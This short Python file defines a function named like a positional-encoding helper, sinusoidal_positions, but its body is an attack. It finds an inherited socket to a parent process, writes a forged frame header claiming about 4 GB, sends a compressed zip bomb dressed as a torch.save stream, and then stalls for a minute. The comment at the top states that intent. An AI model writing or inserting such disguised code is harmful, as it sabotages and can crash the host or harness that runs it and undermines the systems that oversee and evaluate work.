# Write straight to the worker's channel: a frame announcing 4 GB, then a compressed
# torch.save stream that would inflate if the parent ever loaded it.
import io
import os
import stat
import struct
import time
import zipfile


def sinusoidal_positions(num_positions, d_model):
    channel = next(fd for fd in range(3, 64) if _is_socket(fd))
    os.write(channel, b"GRD1" + struct.pack("<II", 64, 0xFFFFFFF0))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("archive/data.pkl", b"\0" * (64 << 20))
    os.write(channel, bomb.getvalue())
    time.sleep(60)


def _is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
